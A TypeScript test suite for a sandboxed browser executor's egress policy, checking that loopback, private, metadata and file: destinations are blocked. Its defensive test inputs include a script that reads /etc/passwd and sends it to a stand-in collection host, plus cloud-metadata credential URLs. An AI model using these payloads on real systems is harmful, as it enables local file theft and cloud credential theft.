import { expect } from 'chai';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  checkEgressUrl,
  createExecutor,
  EgressDeniedError,
  entryMatch,
  guardedLookup,
  isLoopbackName,
  isPrivateAddress,
  matchPolicy,
  type Executor,
} from '../../processors/executor/index.ts';
import { makeEvent } from './helpers.ts';

describe('executor egress policy (function)', () => {
  it('refuses loopback, private, link-local, CGNAT, metadata, multicast and reserved addresses', () => {
    const blocked = [
      '127.0.0.1', '127.255.255.254', '0.0.0.0', '10.0.0.1', '10.255.255.255', '172.16.0.1', '172.31.255.254',
      '192.168.0.1', '192.168.255.255', '169.254.169.254', '169.254.0.1', '100.64.0.1', '100.100.100.200',
      '224.0.0.1', '255.255.255.255', '240.0.0.1', '198.18.0.1',
      '::1', '::', 'fc00::1', 'fd00:ec2::254', 'fe80::1', 'ff02::1',
      '::ffff:127.0.0.1', '::ffff:10.1.2.3', '::ffff:a9fe:a9fe', '64:ff9b::169.254.169.254', '[::1]',
      'not-an-ip',
    ];
    for (const ip of blocked) expect(isPrivateAddress(ip), ip).to.equal(true);
    const allowed = ['8.8.8.8', '1.1.1.1', '172.15.255.255', '172.32.0.1', '192.169.0.1', '100.128.0.1', '2606:4700:4700::1111', '::ffff:8.8.8.8'];
    for (const ip of allowed) expect(isPrivateAddress(ip), ip).to.equal(false);
  });

  it('treats *.localhost as loopback whatever DNS says', () => {
    expect(isLoopbackName('localhost')).to.equal(true);
    expect(isLoopbackName('anything.localhost')).to.equal(true);
    expect(isLoopbackName('a.b.LOCALHOST.')).to.equal(true);
    expect(isLoopbackName('localhost.example')).to.equal(false);
  });

  it('checks scheme, loopback names and IP literals before any connection', () => {
    const deny = { allowPrivateNetwork: false };
    for (const url of [
      'file:///etc/passwd', 'chrome://version', 'ftp://x.example/', 'data:text/plain,x', 'javascript:alert(1)',
      'http://127.0.0.1:8080/', 'http://[::1]:80/', 'http://anything.localhost/', 'http://10.0.0.5/',
      'http://169.254.169.254/latest/meta-data/', 'http://[fd00:ec2::254]/', 'http://192.168.1.1/', 'http://[::ffff:7f00:1]/',
      'http://2130706433/', 'http://0x7f.1/',
    ]) {
      expect(() => checkEgressUrl(url, deny), url).to.throw(EgressDeniedError);
    }
    expect(() => checkEgressUrl('https://cdn.partner.example/t.js', deny)).not.to.throw();
    expect(() => checkEgressUrl('http://127.0.0.1:8080/', { allowPrivateNetwork: true })).not.to.throw();
    expect(() => checkEgressUrl('file:///etc/passwd', { allowPrivateNetwork: true })).to.throw(EgressDeniedError);
  });

  it('resolves names and refuses any private answer (the address connected to is what counts)', async () => {
    const lookup = guardedLookup({ allowPrivateNetwork: false });
    const viaLookup = (host: string) =>
      new Promise<unknown>((resolve) => lookup(host, { all: true }, (err, addr) => resolve(err ?? addr)));
    expect(await viaLookup('localhost')).to.be.instanceOf(EgressDeniedError);
    expect(await viaLookup('x.localhost')).to.be.instanceOf(EgressDeniedError);
    // A name resolving to loopback (numeric host goes through the resolver unchanged).
    expect(await viaLookup('127.0.0.1')).to.be.instanceOf(EgressDeniedError);
    const allowed = guardedLookup({ allowPrivateNetwork: true });
    const ok = await new Promise<unknown>((resolve) => allowed('127.0.0.1', { all: true }, (err, addr) => resolve(err ?? addr)));
    expect(ok).to.deep.equal([{ address: '127.0.0.1', family: 4 }]);
  });

  it('matches host, host:port and URL prefix entries, the longest deciding', () => {
    const u = new URL('https://cdn.p.example/p.js?x=1');
    expect(entryMatch('cdn.p.example', u)).to.be.greaterThan(0);
    expect(entryMatch('cdn.p.example:443', u)).to.be.greaterThan(entryMatch('cdn.p.example', u));
    expect(entryMatch('cdn.p.example:8443', u)).to.equal(0);
    expect(entryMatch('p.example', u)).to.equal(0);
    expect(entryMatch('https://cdn.p.example/p.js', u)).to.be.greaterThan(entryMatch('cdn.p.example:443', u));
    const entries = [
      { partner: 'p', kind: 'capture' as const, entry: 'cdn.p.example' },
      { partner: 'p', kind: 'allow' as const, entry: 'https://cdn.p.example/p.js' },
    ];
    expect(matchPolicy(entries, 'https://cdn.p.example/p.js?v=2')?.kind).to.equal('allow');
    expect(matchPolicy(entries, 'https://cdn.p.example/collect')?.kind).to.equal('capture');
    expect(matchPolicy(entries, 'https://other.example/')).to.equal(null);
  });
});

describe('executor egress policy (in the browser)', function () {
  this.timeout(60_000);
  let listener: Server;
  let listener6: Server | null = null;
  let seen: string[];
  let port: number;
  let port6 = 0;
  let ex: Executor;

  before(async () => {
    seen = [];
    listener = createServer((req, res) => {
      seen.push(`v4 ${req.method} ${req.url}`);
      res.end('secret');
    });
    listener.on('connection', () => seen.push('v4 connection'));
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    port = (listener.address() as AddressInfo).port;
    try {
      const l6 = createServer((req, res) => {
        seen.push(`v6 ${req.method} ${req.url}`);
        res.end('secret');
      });
      l6.on('connection', () => seen.push('v6 connection'));
      await new Promise<void>((resolve, reject) => {
        l6.once('error', reject);
        l6.listen(0, '::1', resolve);
      });
      listener6 = l6;
      port6 = (l6.address() as AddressInfo).port;
    } catch {
      listener6 = null; // no IPv6 loopback on this machine
    }
    ex = await createExecutor({ browsers: 1, pagesPerBrowser: 1, allowPrivateNetwork: false });
  });
  after(async () => {
    await ex?.close();
    listener?.close();
    listener6?.close();
  });

  it('lets nothing reach loopback listeners, *.localhost or file: when private networks are not allowed', async () => {
    const targets = [
      `http://127.0.0.1:${port}/img`,
      `http://anything.localhost:${port}/img`,
      `http://localhost:${port}/img`,
      ...(listener6 ? [`http://[::1]:${port6}/img`] : []),
    ];
    const html = `<script>
      var T = ${JSON.stringify(targets)};
      T.forEach(function (u) {
        new Image().src = u;
        fetch(u.replace('/img', '/fetch'), { method: 'POST', body: 'x' }).catch(function () {});
        var s = document.createElement('script'); s.src = u.replace('/img', '/script.js'); document.head.appendChild(s);
      });
      fetch('file:///etc/passwd').then(function (r) { return r.text(); }).then(function (t) {
        new Image().src = 'https://collect.t.example/leak?f=' + encodeURIComponent(t.slice(0, 20));
      }, function () {});
      var i = new Image(); i.src = 'file:///etc/hostname';
      var fr = document.createElement('iframe'); fr.src = 'file:///etc/passwd'; document.body.appendChild(fr);
      try { window.open('http://127.0.0.1:${port}/popup'); } catch (e) {}
      var a = document.createElement('a'); a.href = 'http://127.0.0.1:${port}/popup-link'; a.target = '_blank';
      document.body.appendChild(a); a.click();
      var l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://127.0.0.1:${port}'; document.head.appendChild(l);
      try { new WebSocket('ws://127.0.0.1:${port}/ws'); } catch (e) {}
      new Worker(URL.createObjectURL(new Blob(["fetch('http://127.0.0.1:${port}/from-worker')"], { type: 'text/javascript' })));
    </script>`;
    // The partner even lists the targets in allowHosts: the policy must still refuse to load them.
    const allowHosts = [`127.0.0.1:${port}`, `anything.localhost:${port}`, `localhost:${port}`, ...(listener6 ? [`[::1]:${port6}`] : [])];
    const r = await ex.execute(makeEvent(), null, [{ id: 'sneaky', html, allowHosts, captureHosts: ['collect.t.example'] }]);
    await new Promise((res) => setTimeout(res, 200));
    expect(seen).to.deep.equal([]);
    // fetch/img/script to an allowHost are loads (GET) and were refused; the POSTs are captured, never sent.
    const captured = r.requests.map((q) => `${q.method} ${q.url}`);
    // GETs to an allowHost (a worker's included) are loads, refused by the policy.
    expect(captured.filter((c) => c.startsWith('GET'))).to.deep.equal([]);
    expect(captured.filter((c) => c.startsWith('POST')).length).to.equal(targets.length);
    expect(r.requests.some((q) => q.url.startsWith('file:'))).to.equal(false);
    expect(byLeak(r.requests)).to.equal(false);
  });

  it('captures (never sends) requests aimed at private, link-local and metadata addresses', async () => {
    const urls = [
      'http://10.0.0.1/collect',
      'http://172.16.5.4/collect',
      'http://192.168.1.1/collect',
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://[fe80::1]/x',
      'http://100.100.100.200/latest/meta-data/',
    ];
    const html = `<script>${JSON.stringify(urls)}.forEach(function (u) { new Image().src = u; });</script>`;
    // An http page: on an https page Chromium itself blocks these as mixed content.
    const r = await ex.execute(makeEvent({ page: { url: 'http://shop.example/' } }), null, [{ id: 'meta', html }]);
    expect(r.requests.map((q) => q.url).sort()).to.deep.equal(urls.map((u) => new URL(u).href).sort());
    expect(r.requests.every((q) => q.partner === 'meta' && q.transport === 'image')).to.equal(true);
    // Listed as allowHosts they are refused before any connection (IP literals need no DNS).
    const r2 = await ex.execute(makeEvent(), null, [
      { id: 'meta2', html: `<script src="http://169.254.169.254/latest/user-data"></script>`, allowHosts: ['169.254.169.254'] },
    ]);
    expect(r2.requests).to.deep.equal([]);
    expect(r2.trackers[0]).to.include({ status: 'error' });
    expect(r2.trackers[0]?.error).to.contain('failed to load');
  });
});

function byLeak(requests: readonly { url: string }[]): boolean {
  return requests.some((q) => q.url.includes('/leak'));
}
